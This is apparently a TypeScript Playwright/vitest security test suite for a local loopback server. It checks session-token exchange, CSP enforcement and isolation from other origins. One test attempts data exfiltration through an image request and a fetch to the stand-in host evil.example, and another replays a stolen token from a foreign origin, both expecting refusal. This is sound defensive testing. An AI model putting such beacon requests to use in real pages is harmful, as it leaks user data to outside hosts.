import { existsSync, readdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { chromium, type Browser, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { chromiumFlags, findChromium } from '../../src/host/node/chromium'
import { createSessions, type Sessions } from '../../src/host/node/sessions'
import { startServer, TOKEN_HEADER, type LoopbackServer } from '../../src/host/node/server'
import { openWindow, profileHome } from '../../src/host/node/window'
import { createTestBackend, type TestBackend } from './fixtures/test-backend'

/** What the real page does first: exchange the code of its address, then call the backend. */
const PAGE_SCRIPT = `
const exchange = await fetch('/api/session', {
  method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ code: location.hash.slice(1) }) })
const { token } = await exchange.json()
globalThis.token = token
const answer = await fetch('/api/trpc/hello', {
  method: 'POST', headers: { 'content-type': 'application/json', '${TOKEN_HEADER}': token }, body: JSON.stringify({ name: 'page' }) })
document.title = (await answer.json()).result.data
`

let backend: TestBackend
let sessions: Sessions
let server: LoopbackServer
let browser: Browser

const executable = (): string => {
  const found = findChromium()
  if (found === undefined) throw new Error('this test needs a Chromium')
  return found
}

beforeAll(async () => {
  backend = createTestBackend()
  writeFileSync(join(backend.dir, 'renderer/assets/index-abc.js'), PAGE_SCRIPT)
  sessions = createSessions(() => performance.now())
  server = await startServer({ fetch: backend.fetch, sessions, port: 0 })
  browser = await chromium.launch({
    executablePath: executable(),
    args: [...chromiumFlags()],
    chromiumSandbox: process.getuid?.() !== 0,
  })
})
afterAll(async () => {
  await browser.close()
  await server.close()
  await backend.dispose()
})

const openPage = async (): Promise<Page> => {
  const page = await browser.newPage()
  await page.goto(`${server.origin}/#${sessions.issueCode()}`)
  await page.waitForFunction(() => document.title === '你好，page')
  return page
}

describe('a real browser at the loopback server', () => {
  it('exchanges its code and gets answers: the boundary lets its own page through', async () => {
    const page = await openPage()
    expect(await page.title()).toBe('你好，page')
    await page.close()
  })

  it('takes styles with the nonce of its page and refuses all others, and inline scripts', async () => {
    const page = await openPage()
    const colours = await page.evaluate(() => {
      const nonce = document.querySelector<HTMLMetaElement>('meta[name="csp-nonce"]')?.content ?? ''
      const add = (css: string, ownNonce: string | null): void => {
        const style = document.createElement('style')
        if (ownNonce !== null) style.nonce = ownNonce
        style.textContent = css
        document.head.append(style)
      }
      add('body { color: rgb(1, 2, 3) }', nonce)
      add('body { background-color: rgb(4, 5, 6) }', null)
      const script = document.createElement('script')
      script.textContent = 'document.body.dataset.ran = "yes"'
      document.body.append(script)
      const { color, backgroundColor } = getComputedStyle(document.body)
      return { color, backgroundColor, ran: document.body.dataset['ran'] ?? 'no' }
    })
    expect(colours).toEqual({ color: 'rgb(1, 2, 3)', backgroundColor: 'rgba(0, 0, 0, 0)', ran: 'no' })
    await page.close()
  })

  it('cannot be made to send anything elsewhere', async () => {
    const page = await openPage()
    const refused = await page.evaluate(async () => {
      const image = await new Promise((resolve) => {
        const img = new Image()
        img.addEventListener('load', () => resolve('loaded'))
        img.addEventListener('error', () => resolve('refused'))
        img.src = 'https://evil.example/pixel.png?name=x'
      })
      const call = await fetch('https://evil.example/').then(
        () => 'sent',
        () => 'refused',
      )
      return [image, call]
    })
    expect(refused).toEqual(['refused', 'refused'])
    await page.close()
  })

  it('shows a finished PDF from memory inside the page', async () => {
    const page = await openPage()
    await page.evaluate(async (header) => {
      const { token } = globalThis as unknown as { token: string }
      const answer = await fetch('/api/proposals/p1.pdf', { headers: { [header]: token } })
      const frame = document.createElement('iframe')
      frame.src = URL.createObjectURL(await answer.blob())
      document.body.append(frame)
    }, TOKEN_HEADER)
    await expect.poll(() => page.frames().some((frame) => frame.url().startsWith(`blob:${server.origin}/`))).toBe(true)
    await page.close()
  })

  it('as a page of a foreign origin gets no answer, even with the token', async () => {
    const token = sessions.exchange(sessions.issueCode()) ?? ''
    const foreign = await browser.newPage()
    await foreign.route('http://127.0.0.1:1/', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<title>foreign</title>' }),
    )
    await foreign.goto('http://127.0.0.1:1/')
    const outcome = await foreign.evaluate(
      async ([origin, header, stolen]) => {
        const init = {
          method: 'POST',
          headers: { 'content-type': 'application/json', [header ?? '']: stolen ?? '' },
          body: '{"name":"x"}',
        }
        return fetch(`${origin}/api/trpc/hello`, init).then(
          (answer) => `answered ${answer.status}`,
          () => 'refused',
        )
      },
      [server.origin, TOKEN_HEADER, token],
    )
    expect(outcome).toBe('refused')
    await foreign.close()
  })
})

describe('the window that the host opens', () => {
  const profiles = (): string[] =>
    readdirSync(profileHome()).filter((name) => name.startsWith(`advisor-profile-${process.pid}-`))

  it('opens the page in a profile of its own, and nothing of the profile is left when it closes', async () => {
    const own = createSessions(() => performance.now())
    const ownServer = await startServer({ fetch: backend.fetch, sessions: own, port: 0 })
    const window = openWindow(executable(), `${ownServer.origin}/#${own.issueCode()}`, ['--headless=new'])
    await expect.poll(() => own.opened, { timeout: 20_000 }).toBe(true)
    const [profile = ''] = profiles()
    expect(existsSync(join(profileHome(), profile))).toBe(true)
    await window.dispose()
    expect(profiles()).toEqual([])
    await ownServer.close()
  })
})
